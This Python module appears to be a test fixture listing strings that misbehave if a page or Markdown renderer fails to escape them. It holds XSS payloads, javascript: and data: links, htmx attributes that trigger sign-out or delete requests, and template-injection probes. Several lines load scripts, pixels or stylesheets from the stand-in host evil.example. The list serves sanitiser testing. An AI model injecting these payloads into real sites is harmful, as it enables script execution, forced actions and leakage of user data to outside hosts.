"""Strings that would do something in a page that forgot to escape them, or in a renderer that trusts Markdown."""

_SCRIPTS = r"""
<script>alert(1)</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
</noscript><script>alert(1)</script>
</template><script>alert(1)</script>
</option></select><script>alert(1)</script>
</time></bdi><script>alert(1)</script>
--><script>alert(1)</script><!--
--!><script>alert(1)</script>
]]><script>alert(1)</script>
<scr<script>ipt>alert(1)</script>
<SCRIPT SRC=//evil.example/x></SCRIPT>
<script/src=data:text/javascript,alert(1)></script>
<script type=module>alert(1)</script>
<script>alert`1`</script
<img src=x onerror=alert(1)>
<img src=x:x onerror=alert(1)//
<img/src/onerror=alert(1)>
<IMG SRC="jav&#x09;ascript:alert(1);">
<img src=`x` onerror=alert(1)>
<img srcset=https://evil.example/x.gif>
<picture><source srcset=https://evil.example/x></picture>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
`><img src=x onerror=alert(1)>
"/><script>alert(1)</script>
" autofocus onfocus=alert(1) x="
' onmouseover='alert(1)
" accesskey=x onclick=alert(1) "
x onfocus=alert(1) autofocus tabindex=1
" style=animation-name:x onanimationstart=alert(1) "
" onpointerenter=alert(1) popover "
javascript:alert(1)
java&#10;script:alert(1)
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x">
<svg><foreignObject><iframe srcdoc=x></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>
<math href=javascript:alert(1)>x</math>
<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<details open ontoggle=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<button popovertarget=x>y</button><p popover id=x onbeforetoggle=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<video><source onerror=alert(1)></video>
<video poster=https://evil.example/x autoplay src=https://evil.example/y></video>
<audio src=x onerror=alert(1)></audio>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<object data=https://evil.example/x></object>
<object data=javascript:alert(1)></object>
<embed src=https://evil.example/x>
<applet code=x archive=https://evil.example/x></applet>
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=preload as=script href=https://evil.example/x.js>
<link rel=prefetch href=https://evil.example/>
<meta http-equiv=refresh content='0;url=https://evil.example/'>
<meta http-equiv=Content-Security-Policy content="script-src *">
<base href=https://evil.example/>
<form action=https://evil.example/><button autofocus>x</button></form>
<button formaction=https://evil.example/ form=x>x</button>
<isindex action=javascript:alert(1) type=image>
<img src=https://evil.example/pixel.gif>
<table background=https://evil.example/x><td background=https://evil.example/y>
<style>*{background:url(https://evil.example/x)}</style>
<style>@import 'https://evil.example/x.css';</style>
<p style='background:url(https://evil.example/x)'>x</p>
<a href=javascript:alert(1) autofocus>x</a>
<a href="&#106;&#97;&#118;ascript:alert(1)">x</a>
<a href="https://evil.example/" ping=https://evil.example/p>x</a>
<a href=data:text/html,<script>alert(1)</script>>x</a>
<a target=_blank rel=opener href=https://evil.example/>x</a>
<x contenteditable onblur=alert(1) tabindex=1 autofocus>
<custom-element onclick=alert(1)>x</custom-element>
<template shadowrootmode=open><slot></slot><script>alert(1)</script></template>
<portal src=https://evil.example/ onload=alert(1)></portal>
<div id=location><form name=body><input name=cookie></form></div>
<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
""".strip().splitlines()

_MARKDOWN = r"""
![x](https://evil.example/pixel.gif)
![x][y]
[x](javascript:alert(1))
[x](JaVaScRiPt&colon;alert(1))
[x](java&Tab;script:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](<javascript:alert(1)>)
[x](https://a.example "onmouseover=alert(1)")
[x](https://a.example/" onclick="alert(1))
<javascript:alert(1)>
[y]: javascript:alert(1) "y"
`<img src=x onerror=alert(1)>`
> <script>alert(1)</script>
| <img src=x onerror=alert(1)> | x |
&lt;img src=x onerror=alert(1)&gt;
""".strip().splitlines()

_ATTRIBUTES = r"""
<div hx-get=/sign-out hx-trigger=load>x</div>
<div data-hx-post=/sign-out data-hx-trigger=load>x</div>
<div hx-on:htmx:load='alert(1)' hx-vals='js:{x:alert(1)}'>x</div>
<div hx-on--load=alert(1) hx-on::after-request=alert(1)>x</div>
<div hx-post=/sign-out hx-trigger="every 1s" hx-swap=outerHTML hx-target=body>x</div>
<a hx-boost=true href=https://evil.example/>x</a>
<div hx-ext=sse sse-connect=https://evil.example/ sse-swap=message>x</div>
<div hx-headers='{"X-CSRFToken": "x"}' hx-delete=/desk/ hx-trigger=revealed>x</div>
<div hx-swap-oob=true id=main><script>alert(1)</script></div>
<hx-partial hx-target=body><script>alert(1)</script></hx-partial>
" hx-get=/sign-out hx-trigger=load x="
' data-hx-get=/sign-out data-hx-trigger=load x='
" data-keep=x data-drop=y x="
" href=javascript:alert(1) x="
{{ 7*191 }} {% raw %} ${7*191} <%= 7*191 %> #{7*191}
{{ config }} {{ ''.__class__.__mro__ }} {%% import os %%}
%(name)s {name} {0.__class__} %s %n
""".strip().splitlines()

STRINGS = [
    *_SCRIPTS,
    *_MARKDOWN,
    *_ATTRIBUTES,
    "\u2028alert(1)\u2029 &lt;script&gt;alert(1)&lt;/script&gt; &#60;script>",
]
